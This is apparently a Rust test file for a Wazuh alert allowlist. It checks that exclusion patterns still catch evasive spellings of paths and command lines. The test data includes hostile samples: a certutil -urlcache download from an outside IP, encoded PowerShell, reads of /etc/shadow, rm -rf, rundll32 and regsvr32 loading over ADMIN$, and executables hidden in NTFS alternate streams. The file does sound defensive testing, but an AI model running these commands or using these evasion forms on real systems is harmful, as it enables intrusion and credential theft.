//! What a `not` excludes, and what it leaves to its rule.

use super::evasion::excludes_only;
use super::*;

const LINE: &str = "data.win.eventdata.commandLine";

#[test]
fn a_star_in_a_not_goes_over_slashes_where_no_path_stands() {
    excludes_only(&[
        (
            "data.command",
            "{ glob = '/bin/cat *' }",
            &["/bin/ls /etc", "/usr/bin/cat"],
            &["/bin/cat /etc/shadow", "/bin/cat x", "/BIN/cat ../x"],
        ),
        (
            LINE,
            "{ glob = '*powershell* -enc *' }",
            &[r"C:\Windows\System32\WindowsPowerShell\v1.0\powershell.exe -File C:\x.ps1"],
            &[
                "powershell.exe -enc SQBFAFgA/w==",
                r"C:\Windows\System32\WindowsPowerShell\v1.0\powershell.exe -enc SQ==",
            ],
        ),
        (
            LINE,
            "{ glob = 'certutil* -urlcache *' }",
            &["certutil.exe -store my"],
            &["certutil.exe -urlcache -f http://203.0.113.9/a b"],
        ),
        (
            LINE,
            "{ glob = '*whoami*' }",
            &[r"C:\Windows\System32\whom.exe"],
            &[r"C:\Windows\System32\whoami.exe", "whoami /all"],
        ),
        (
            LINE,
            "{ glob = 'rm.exe *' }",
            &["ls.exe /etc"],
            &["rm.exe -rf /etc/ssh"],
        ),
        (LINE, "{ glob = 'net?user*' }", &["netuser"], &["net/user/x"]),
        (
            "full_log",
            "{ glob = '*COMMAND=/bin/bash*' }",
            &["sudo: bob : TTY=pts/0 ; PWD=/home/bob ; USER=root ; COMMAND=/bin/ls /bin/bash"],
            &[
                "sudo: bob : TTY=pts/0 ; PWD=/home/bob ; USER=root ; COMMAND=/bin/bash",
                "sudo: bob : USER=root ; COMMAND=/bin/bash -c /tmp/x",
            ],
        ),
        (
            "data.alert.signature",
            "{ glob = '*MALWARE*' }",
            &["ET POLICY curl/7.68"],
            &["ET MALWARE Win32/Stealer"],
        ),
        (
            "data.url",
            "{ glob = '/admin?*' }",
            &["/shop/admin"],
            &["/admin?next=/x", "/admin/x"],
        ),
    ]);
}

#[test]
fn a_star_in_a_not_stays_in_its_folder_where_paths_stand() {
    excludes_only(&[
        (
            "data.win.eventdata.image",
            r"{ glob = 'C:\Windows\*.exe' }",
            &[r"C:\Windows\System32\svchost.exe"],
            &[r"C:\Windows\explorer.exe", "C:/Windows/explorer.exe"],
        ),
        (
            "syscheck.path",
            "{ glob = '/etc/*' }",
            &["/etc/ssh/sshd_config"],
            &["/etc/passwd"],
        ),
        (
            "location",
            "{ glob = '/var/log/*' }",
            &["/var/log/nginx/access.log"],
            &["/var/log/auth.log"],
        ),
        (
            "data.win.eventdata.taskName",
            r"{ glob = '\Acme\*' }",
            &[r"\Acme\Backup\Nightly"],
            &[r"\Acme\Nightly"],
        ),
    ]);
}

#[test]
fn a_long_list_in_a_not_reads_a_value_no_more_often_than_a_short_one() {
    let list = |length: usize| {
        let items: Vec<String> = (0..length)
            .map(|at| format!("'10.1.{}.{}'", at / 250, at % 250))
            .collect();
        allowlist(&format!(
            "{HEAD}[match]\n\"rule.id\" = \"100211\"\nnot = {{ \"data.srcuser\" = {{ in = [{}] }} }}",
            items.join(", ")
        ))
        .unwrap()
    };
    let (one, many) = (list(1), list(200));
    for value in [" /".repeat(4 << 10), "bob 1 2 ".repeat(1 << 10)] {
        let alert = alert_with("data.srcuser", &value);
        let alert = wazuh_model::Alert::from_slice(alert.as_bytes()).unwrap();
        let subject = Subject::of(&alert, 1_768_900_000_000_000);
        let fastest = |rules: &Allowlist, times: usize| {
            let times = (0..5).map(|_| {
                let started = std::time::Instant::now();
                for _ in 0..times {
                    assert!(rules.decides(&subject).is_some());
                }
                started.elapsed()
            });
            times.min().unwrap()
        };
        let (one, many) = (fastest(&one, 20), fastest(&many, 1));
        // It would take ten times as long as 20 values for one item if each of the 200 read the value anew.
        assert!(many < one * 3, "{many:?} for 200 items, {one:?} for 20 times one");
    }
}

#[test]
fn a_not_leaves_ordinary_names_of_windows_to_its_rule() {
    excludes_only(&[
        (
            "data.win.eventdata.application",
            r"{ glob = '**\powershell.exe' }",
            &[r"\device\harddiskvolume2\windows\system32\svchost.exe", "System"],
            &[r"\device\harddiskvolume2\windows\system32\windowspowershell\v1.0\powershell.exe"],
        ),
        (
            "data.win.eventdata.objectName",
            r"{ regex = '(?i).*\\(ntds\.dit|lsass\.exe)' }",
            &[
                r"\Device\HarddiskVolume2\Windows\System32\svchost.exe",
                r"C:\Users\b\Downloads\r.pdf:Zone.Identifier",
            ],
            &[
                r"\Device\HarddiskVolume2\Windows\NTDS\ntds.dit",
                r"C:\Windows\NTDS\ntds.dit:a",
            ],
        ),
        (
            LINE,
            "{ glob = '**-enc*' }",
            &[
                r"\??\C:\Windows\system32\conhost.exe 0xffffffff -ForceV1",
                r"\SystemRoot\System32\smss.exe",
            ],
            &[r"\??\C:\Windows\powershell.exe -Enc x", r"\SystemRoot\x.exe -enc x"],
        ),
        (
            "data.win.eventdata.imagePath",
            "{ glob = '*psexe*' }",
            &[r"\SystemRoot\System32\drivers\x.sys"],
            &[r"\SystemRoot\psexesvc.exe"],
        ),
        (
            LINE,
            r"{ glob = 'C:\Users\**' }",
            &[r"\??\C:\Windows\system32\conhost.exe 0xffffffff -ForceV1"],
            &[
                r"\??\C:\Users\eve\x.exe",
                r"\??\C:\Windows\..\Users\x.exe",
                r"\??\C:\PROGRA~1\x.exe",
                r"\??\GLOBALROOT\Device\HarddiskVolume3\Users\x.exe",
                r"\??\C:\Windows\Tracing:x.exe",
            ],
        ),
        (
            "data.win.eventdata.shareName",
            r"'\\*\ADMIN$'",
            &[r"\\*\IPC$", r"\\*\print$"],
            &[r"\\*\ADMIN$", r"\\*\admin$"],
        ),
        (
            "data.win.eventdata.shareName",
            r"{ regex = '.*\\[A-Z]\$' }",
            &[r"\\*\IPC$"],
            &[r"\\*\C$"],
        ),
    ]);
}

#[test]
fn a_not_of_files_on_a_drive_excludes_them_by_every_name_of_the_drive() {
    for matches in [
        r"{ glob = 'C:\Windows\**' }",
        r"{ prefix = 'C:\Windows\' }",
        r"{ regex = '.*C:\\Windows\\.*' }",
        r"{ glob = '**C:\Windows\**' }",
        r"{ glob = '**\HarddiskVolume2\Windows\**' }",
    ] {
        excludes_only(&[(
            "data.win.eventdata.image",
            matches,
            &[r"D:\Tools\x.exe"],
            &[
                r"\Device\HarddiskVolume3\Windows\x.exe",
                r"\SystemRoot\x.exe",
                r"\Windows\x.exe",
            ],
        )]);
    }
}

#[test]
fn a_not_excludes_what_a_name_of_the_kernel_may_stand_for() {
    excludes_only(&[
        (
            "data.win.eventdata.imagePath",
            r"{ glob = '**\Windows\Temp\**' }",
            &[
                r"\SystemRoot\System32\drivers\x.sys",
                r"\Device\HarddiskVolume3\Windows\x.sys",
                r"System32\drivers\x.sys",
            ],
            &[
                r"\SystemRoot\Temp\evil.sys",
                r"\systemroot\temp\evil.sys",
                r"\SystemRoot\System32\..\Temp\evil.sys",
                r"\??\UNC\127.0.0.1\ADMIN$\Temp\evil.exe",
                r"\??\GLOBALROOT\SystemRoot\Temp\evil.exe",
                r"\DosDevices\UNC\127.0.0.1\ADMIN$\Temp\evil.exe",
                r"\Device\HarddiskVolumeShadowCopy1\x.exe",
            ],
        ),
        (
            "data.win.eventdata.objectName",
            r"{ regex = '(?i).*\\Windows\\Temp\\.*' }",
            &[r"\Device\HarddiskVolume12\Windows\x.exe"],
            &[r"\Device\Mup\127.0.0.1\ADMIN$\Temp\evil.exe"],
        ),
        (
            "data.win.eventdata.application",
            r"{ glob = '**\ADMIN$\**' }",
            &[r"\device\harddiskvolume2\windows\x.exe"],
            &[r"\device\mup\h\c$\windows\x"],
        ),
        (
            "data.win.eventdata.targetObject",
            r"{ regex = '(?i).*(HKLM|HKEY_LOCAL_MACHINE)\\SAM\\.*' }",
            &[r"HKLM\SOFTWARE\x"],
            &[r"\REGISTRY\MACHINE\SAM\x"],
        ),
        (
            "data.win.eventdata.image",
            r"{ regex = '.*C.\\Windows\\Temp\\.*' }",
            &[r"\Device\HarddiskVolume3\Windows\x.exe", r"D:\Windows\Temp\x.exe"],
            &[r"\Device\HarddiskVolume3\Windows\Temp\x.exe", r"\Windows\Temp\x.exe"],
        ),
    ]);
}

#[test]
fn a_not_excludes_other_names_of_a_drive_in_quotes_and_among_arguments() {
    let service = "data.win.eventdata.imagePath";
    excludes_only(&[
        (
            service,
            r"{ glob = 'C:\Users\**' }",
            &[
                r#""C:\Program Files\Acme\x.exe" -k"#,
                r#""\??\C:\Windows\x.exe" -k"#,
                r"System32\drivers\x.sys",
            ],
            &[
                r#""\\?\C:\Users\Public\x.exe" -k"#,
                r#""\Users\Public\x.exe""#,
                r#""C:Users\Public\x.exe""#,
            ],
        ),
        (
            service,
            r"{ glob = '**\Windows\Temp\**' }",
            &[r#""\SystemRoot\System32\x.exe" -k"#, r"System32\drivers\x.sys"],
            &[
                r#""\\?\UNC\127.0.0.1\ADMIN$\Temp\x.exe""#,
                r#""\SystemRoot\Temp\x.exe""#,
                // From the folder of Windows on.
                r"Temp\x.sys",
            ],
        ),
        (
            LINE,
            r"{ glob = '**\Windows\Temp\**' }",
            &[
                r"schtasks /run /tn \Acme\x",
                r"robocopy \\?\C:\Data D:\x",
                r"mountvol \\?\Volume{1}\ /l",
                r"docker.exe -H \\.\pipe\docker",
                r"smartctl.exe \\.\PhysicalDrive0",
                r"net use \\nas\backup",
            ],
            &[
                r"rundll32.exe \\.\GLOBALROOT\SystemRoot\Temp\x.dll,Start",
                r"regsvr32 /s \??\UNC\127.0.0.1\ADMIN$\Temp\x.dll",
                r#"regsvr32 /s "//?/GLOBALROOT/SystemRoot/Temp/x.dll""#,
            ],
        ),
        (
            LINE,
            r"{ glob = 'cmd.exe /c C:\Users\**' }",
            &[r"cmd.exe /c D:\x.exe"],
            &[r"cmd.exe /c \\?\C:\Users\x.exe"],
        ),
        (
            LINE,
            "{ glob = '**-enc*' }",
            &[r"rundll32.exe \\.\GLOBALROOT\x\y.dll"],
            &["powershell.exe \u{2013}enc x", "powershell.exe -\u{201c}\u{201d}enc x"],
        ),
    ]);
}

#[test]
fn a_not_knows_a_key_by_the_root_that_the_kernel_gives_it() {
    for matches in [r"{ glob = '**\SAM\**' }", r"{ regex = '(?i).*\\SAM\\.*' }"] {
        excludes_only(&[(
            "data.win.eventdata.objectName",
            matches,
            &[r"\REGISTRY\MACHINE\SOFTWARE\x"],
            &[r"\REGISTRY\MACHINE\SAM\x"],
        )]);
    }
    excludes_only(&[(
        "data.win.eventdata.objectName",
        r"{ regex = '.*HKLM\\SAM\\.*' }",
        &[r"HKLM\SOFTWARE\x"],
        &[r"\REGISTRY\MACHINE\SAM\x"],
    )]);
}

#[test]
fn a_not_looks_at_written_files_with_their_contents_and_without_them() {
    excludes_only(&[
        (
            "data.win.eventdata.targetFilename",
            "{ glob = '**.exe:*' }",
            &[r"C:\Users\b\Downloads\r.pdf:Zone.Identifier", r"C:\Users\b\r.exe"],
            &[r"C:\Users\b\Downloads\r.exe:Zone.Identifier"],
        ),
        (
            "data.win.eventdata.targetFilename",
            r"{ glob = 'C:\Users\Public\**' }",
            &[r"C:\Users\b\r.pdf:Zone.Identifier"],
            &[r"C:\Users\Public\r.pdf:Zone.Identifier", r"C:\Users\Public:x.exe"],
        ),
        (
            "data.win.eventdata.targetFilename",
            r"{ in = ['C:\a\x.exe', 'C:\a\y.exe'] }",
            &[r"C:\a\z.exe:b"],
            &[r"C:\a\y.exe:b", r"C:\a\y.exe::$DATA", r"C:\a\x.exe :b"],
        ),
        (
            "data.win.eventdata.targetFilename",
            r"{ glob = '**\Startup\*.lnk' }",
            &[r"C:\Users\b\Startup\a.txt:x", r"C:\Users\b\x:Zone.Identifier"],
            &[
                r"C:\Users\b\Startup:$I30:$INDEX_ALLOCATION\evil.lnk",
                r"C:\Users\b\Startup::$INDEX_ALLOCATION\evil.lnk",
            ],
        ),
        (
            "data.win.eventdata.objectName",
            "{ glob = '**.exe' }",
            &[r"C:\a\b.txt:c"],
            &[r"C:\a\b.txt:evil.exe:$DATA", r"C:\a\b.txt:evil.exe"],
        ),
        (
            "data.win.eventdata.targetFilename",
            "{ glob = '**:*.exe' }",
            &[r"C:\a\b.txt:c"],
            &[r"C:\a\b.txt:evil.exe:$DATA", r"C:\a\b.txt:evil.exe"],
        ),
        (
            "data.win.eventdata.image",
            r"{ glob = 'C:\Docs\Plan – neu.exe' }",
            &[r"C:\Docs\Plan - alt.exe"],
            &["\"C:\\Docs\\Plan – neu.exe\""],
        ),
        (
            "data.win.eventdata.objectName",
            r"{ regex = '(?i).*HK(LM|CU)\\SAM.*' }",
            &[],
            &[r"\REGISTRY\MACHINE\SAM\x"],
        ),
        (
            "data.win.eventdata.relativeTargetName",
            r"{ glob = 'Public\*.exe' }",
            &[r"Public\a.txt:b", r"Public\a.pdf:Zone.Identifier:$DATA"],
            &[
                r"Public:$I30:$INDEX_ALLOCATION\evil.exe",
                r"Public\x.exe:Zone.Identifier:$DATA",
                r"Public:x.exe:$DATA",
            ],
        ),
        (
            "data.win.eventdata.image",
            "{ glob = '**.com' }",
            &[r"C:\a\x.exe"],
            &[r"C:\a\x.txt:y.exe"],
        ),
    ]);
}
